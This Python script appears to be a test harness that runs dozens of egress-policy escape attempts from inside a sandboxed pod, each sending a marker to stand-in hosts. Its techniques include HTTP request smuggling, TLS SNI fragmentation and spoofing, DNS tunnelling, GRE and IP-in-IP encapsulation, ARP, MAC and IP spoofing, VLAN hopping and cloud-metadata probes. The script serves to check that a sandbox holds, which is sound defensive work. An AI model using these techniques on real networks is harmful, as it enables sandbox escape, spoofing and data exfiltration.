# SPDX-License-Identifier: Apache-2.0
"""Ways out of a pod with an egress policy, as a program in it: root, with raw sockets, on a network that is its own.

Usage: python3 attempts.py GATEWAY NEIGHBOUR NEIGHBOUR_MAC [NAME...]. It prints a line of JSON for each attempt: its
name, and what it got, "" for nothing. What left all the same others tell, who listen: everything here carries MARK.
"""

import concurrent.futures
import contextlib
import json
import socket
import ssl
import struct
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

GATEWAY, NEIGHBOUR, NEIGHBOUR_MAC = sys.argv[1:4]  # and then names of attempts; without any, all
OUTSIDE, OUTSIDE6, HOST = "203.0.113.2", "2001:db8::2", "203.0.113.1"
MARK = b"ESCAPED"
ALLOWED, FORBIDDEN = "api.example.test", "evil.test"
REBOUND = ("rebind.test", "private.test", "metadata.test", "gateway.test", "host.test")
PATIENCE = 4.0  # seconds for what is dropped
ATTEMPTS: dict[str, Callable[[], object]] = {}
DEVICE = "eth0"
MAC = bytes.fromhex(Path(f"/sys/class/net/{DEVICE}/address").read_text().strip().replace(":", ""))
ALL = b"\xff" * 6


def attempt(function: Callable[[], object]) -> Callable[[], object]:
    ATTEMPTS[function.__name__] = function
    return function


def either(*ways: Callable[[], object]) -> object:
    """What the first of them got that got something. :raise OSError: none did, and the last says why."""
    why: OSError | None = None
    for way in ways:
        try:
            if got := way():
                return got
        except OSError as error:
            why = error
    if why:
        raise why
    return b""


def tcp(address: str, port: int, *sent: bytes, patience: float = 15.0) -> bytes:
    """All that comes back."""
    with socket.create_connection((address, port), PATIENCE) as s:
        s.settimeout(patience)
        for data in sent:
            s.sendall(data)
        found = b""
        try:
            while data := s.recv(4096):
                found += data
        except TimeoutError:
            if not found:
                raise
        return found


def udp(address: str, port: int, data: bytes = MARK) -> bytes:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(data, (address, port))
        return s.recv(512)


def raw_ip(protocol: int, address: str = OUTSIDE, data: bytes = MARK) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.settimeout(PATIENCE)
        s.sendto(data, (address, 0))
        while protocol == 1 and (found := s.recv(512))[20]:
            pass  # not a reply, but what is said of other attempts
        return found if protocol == 1 else s.recv(512)


def frame(target: bytes, kind: int, payload: bytes, *, source: bytes = MAC) -> bytes:
    """Send it as it is; what is answered to this NIC with the mark in it."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind((DEVICE, 0))
        s.settimeout(PATIENCE)
        for _ in range(3):
            s.send(target + source + struct.pack("!H", kind) + payload)
        while True:
            found, about = s.recvfrom(2048)
            is_icmp = found[12:14] == b"\x08\0" and found[23] == 1  # of attempts that were refused
            if MARK in found and about[2] != socket.PACKET_OUTGOING and not is_icmp:
                return found


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def packet(source: str, target: str, protocol: int, body: bytes, flags: int = 0) -> bytes:
    head = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(body), 1, flags, 64, protocol, 0, socket.inet_aton(source),
                       socket.inet_aton(target))  # fmt: skip
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def datagram(port: int) -> bytes:
    return struct.pack("!HHHH", 4000, port, 8 + len(MARK), 0) + MARK


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((GATEWAY, 9))
        return str(s.getsockname()[0])


def hello(name: str | None) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname = False
    out = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return out.read()


def answered(data: bytes) -> bytes:
    """Whether a server took part: a handshake's record came back, not only an alert."""
    return data if data[:1] == b"\x16" else b""


def page(data: bytes) -> bytes:
    """How often a server has answered."""
    return b"served " * data.count(b"200 OK")


def get(host: str, target: str = "/") -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nX-Mark: {MARK.decode()}\r\nConnection: close\r\n\r\n".encode()


def web(host: str, target: str = "/", *, address: str = OUTSIDE, port: int = 80) -> bytes:
    return page(tcp(address, port, get(host, target)))


ATTEMPTS |= {
    "http_to_an_address": lambda: web(OUTSIDE),
    "http_for_another_host": lambda: web(FORBIDDEN),
    "http_in_other_letters": lambda: web("EVIL.Test."),
    "http_with_a_port": lambda: either(lambda: web(f"{FORBIDDEN}:80"), lambda: web(f"{ALLOWED}:22")),
    "http_with_a_user": lambda: web(f"{ALLOWED}@{FORBIDDEN}"),
    "http_absolute_form": lambda: either(
        lambda: web(ALLOWED, f"http://{FORBIDDEN}/"), lambda: web(FORBIDDEN, f"http://{ALLOWED}/")
    ),
    "http_two_hosts": lambda: page(tcp(OUTSIDE, 80, get(ALLOWED).replace(b"X-Mark", b"Host: evil.test\r\nX-Mark"))),
    "http_port_not_allowed": lambda: web(ALLOWED, port=22),
    "connect_elsewhere": lambda: page(
        tcp(OUTSIDE, 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
    ),
    "tls_for_another_host": lambda: answered(tcp(OUTSIDE, 443, hello(FORBIDDEN))),
    "tls_without_a_name": lambda: answered(tcp(OUTSIDE, 443, hello(None))),
    "tls_named_by_an_address": lambda: answered(tcp(OUTSIDE, 443, hello("203.0.113.2"))),
    "ssh_on_443": lambda: tcp(OUTSIDE, 443, b"SSH-2.0-OpenSSH_9.2\r\n" + MARK),
    "bytes_on_443": lambda: tcp(OUTSIDE, 443, b"\x00\x01\x02" + MARK),
    "ssh_on_22": lambda: tcp(OUTSIDE, 22, b"SSH-2.0-OpenSSH_9.2\r\n"),
    "dns_of_others_by_udp": lambda: udp(OUTSIDE, 53, question("escaped.evil.test")),
    "dns_of_others_by_tcp": lambda: tcp(OUTSIDE, 53, struct.pack("!H", 34) + question("escaped.evil.test")),
    "dns_over_tls": lambda: answered(tcp(OUTSIDE, 853, hello(FORBIDDEN))),
    "dns_over_https": lambda: answered(tcp("203.0.113.2", 443, hello("dns.evil.test"))),
    "ipv6_tcp": lambda: tcp(OUTSIDE6, 80, get(ALLOWED)),
    "ipv6_udp": lambda: udp(OUTSIDE6, 53, question("escaped.evil.test")),
    "quic": lambda: udp(OUTSIDE, 443, b"\xc0\0\0\0\x01" + MARK * 200),
    "icmp_echo": lambda: raw_ip(
        1, data=struct.pack("!BBHHH", 8, 0, checksum(b"\x08\0\0\0\0\1\0\1ESCAPED!"), 1, 1) + b"ESCAPED!"
    ),
    "gre": lambda: raw_ip(47, data=b"\0\0\x08\0" + packet(own_address(), OUTSIDE, 17, datagram(53))),
    "ip_in_ip": lambda: raw_ip(4, data=packet(own_address(), OUTSIDE, 17, datagram(53))),
    "sctp": lambda: raw_ip(132),
    "an_unknown_protocol": lambda: raw_ip(253),
    "to_the_neighbour_by_tcp": lambda: tcp(NEIGHBOUR, 9000, MARK),
    "to_the_neighbour_by_udp": lambda: udp(NEIGHBOUR, 9000),
    "to_the_neighbour_by_frame": lambda: frame(
        NEIGHBOUR_HARDWARE, 0x0800, packet(own_address(), NEIGHBOUR, 17, datagram(9000))
    ),
    "raw_ethernet": lambda: either(
        lambda: frame(NEIGHBOUR_HARDWARE, 0x88B5, MARK * 8), lambda: frame(ALL, 0x88B5, MARK * 8)
    ),
    "vlan": lambda: frame(
        ALL, 0x8100, struct.pack("!HH", 5, 0x0800) + packet(own_address(), NEIGHBOUR, 17, datagram(9000))
    ),
    "broadcast": lambda: either(
        lambda: udp("255.255.255.255", 9000),
        lambda: frame(ALL, 0x0800, packet(own_address(), "255.255.255.255", 17, datagram(9000))),
    ),
    "multicast": lambda: udp("224.0.0.251", 5353),
    "tcp_to_a_broadcast_address": lambda: tcp(GATEWAY.rpartition(".")[0] + ".255", 443, MARK),
    "arp_for_the_neighbour": lambda: frame(
        ALL,
        0x0806,
        struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
        + MAC
        + socket.inet_aton(GATEWAY)
        + NEIGHBOUR_HARDWARE
        + socket.inet_aton(NEIGHBOUR)
        + MARK,
    ),
    "another_mac": lambda: frame(
        gateway_hardware(), 0x0800, packet(own_address(), OUTSIDE, 17, datagram(53)), source=NEIGHBOUR_HARDWARE
    ),
    "another_address": lambda: frame(gateway_hardware(), 0x0800, packet(NEIGHBOUR, OUTSIDE, 17, datagram(53))),
    "pieces_of_a_datagram": lambda: frame(
        gateway_hardware(), 0x0800, packet(own_address(), OUTSIDE, 17, datagram(53), flags=0x2000)
    ),
    "metadata": lambda: either(
        lambda: tcp("169.254.169.254", 80, get("169.254.169.254")), lambda: udp("169.254.169.254", 53)
    ),
    "the_hosts_own_services": lambda: either(lambda: tcp(HOST, 9000, MARK), lambda: web(HOST, address=HOST)),
    "the_gateways_services": lambda: either(lambda: tcp(GATEWAY, 9000, MARK), lambda: udp(GATEWAY, 9000)),
    "ports_that_others_publish": lambda: either(lambda: tcp(HOST, 8091, MARK), lambda: tcp(GATEWAY, 8091, MARK)),
    "dhcp": lambda: udp("255.255.255.255", 67, b"\1\1\6\0" + MARK * 40),
    "names_that_were_rebound": lambda: either(*(partial(web, name) for name in REBOUND)),
}


@attempt
def a_second_request() -> object:
    """Pipelined on one connection: the first is served, and no other."""
    first = get(ALLOWED).replace(b"Connection: close\r\n", b"").replace(b"X-Mark: ESCAPED\r\n", b"")
    return page(tcp(OUTSIDE, 80, first + get(FORBIDDEN)))[7:]


@attempt
def two_lengths() -> object:
    """What one reader takes for a body is the next request for another."""
    head = f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
    return page(tcp(OUTSIDE, 80, head.encode() + b"0\r\n\r\n" + get(FORBIDDEN)))[7:]


@attempt
def connect_and_another_name() -> object:
    """The tunnel is to an allowed host, TLS in it for another."""
    with socket.create_connection((OUTSIDE, 80), PATIENCE) as s:
        s.settimeout(30)
        s.sendall(f"CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: {ALLOWED}:443\r\n\r\n".encode())
        s.recv(1000)
        s.sendall(hello(FORBIDDEN))
        return answered(s.recv(1000))


@attempt
def an_upgrade_and_another_request() -> object:
    """A websocket to an allowed host leads to that host only: it sends back what it gets."""
    with socket.create_connection((OUTSIDE, 80), PATIENCE) as s:
        s.settimeout(30)
        s.sendall(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n".encode())
        assert b"101" in s.recv(1000)
        sent = get(FORBIDDEN).replace(MARK, b"")
        s.sendall(sent)
        found = b""
        while len(found) < len(sent):
            found += s.recv(1000)
        return b"" if found == sent else found


@attempt
def tls_in_pieces() -> object:
    """The forbidden name is cut over records, and over segments."""
    data = hello(FORBIDDEN)
    body = data[5:]
    records = [data[:3] + struct.pack("!H", len(x)) + x for x in (body[i : i + 20] for i in range(0, len(body), 20))]
    return answered(tcp(OUTSIDE, 443, *records))


@attempt
def tls_with_a_hidden_name() -> object:
    """The visible name is allowed, and an encrypted hello is with it."""
    message = hello(ALLOWED)[9:]
    at = 34
    at += 1 + message[at]
    at += 2 + struct.unpack_from("!H", message, at)[0]
    at += 1 + message[at]
    extensions = message[at + 2 :] + struct.pack("!HH", 0xFE0D, len(MARK)) + MARK
    message = message[:at] + struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + len(message).to_bytes(3, "big") + message
    return answered(tcp(OUTSIDE, 443, b"\x16\x03\x01" + struct.pack("!H", len(message)) + message))


@attempt
def a_tunnel_of_names() -> object:
    """By the pod's own name server: what is to get out is in the name; or records of other kinds."""
    found = [udp(GATEWAY, 53, question(n, k)) for n, k in (("escaped.evil.test", 1), ("escaped.evil.test", 16))]
    found += [udp(GATEWAY, 53, question(ALLOWED, kind)) for kind in (16, 28, 65)]
    return b"".join(x for x in found if struct.unpack_from("!H", x, 6)[0])


NEIGHBOUR_HARDWARE = bytes.fromhex(NEIGHBOUR_MAC.replace(":", ""))


def gateway_hardware() -> bytes:
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        if line.split()[0] == GATEWAY:
            return bytes.fromhex(line.split()[3].replace(":", ""))
    return ALL


def made(name: str) -> tuple[str, str, str]:
    """What an attempt got, and why nothing."""
    try:
        got = ATTEMPTS[name]()
        return name, repr(got) if got else "", ""
    except OSError as error:
        return name, "", f"{type(error).__name__}: {error}"


def main() -> None:
    udp(GATEWAY, 53, question(ALLOWED))
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        for name, got, why in pool.map(made, sys.argv[4:] or ATTEMPTS):
            print(json.dumps({"name": name, "got": got, "why": why}), flush=True)


if __name__ == "__main__":
    main()
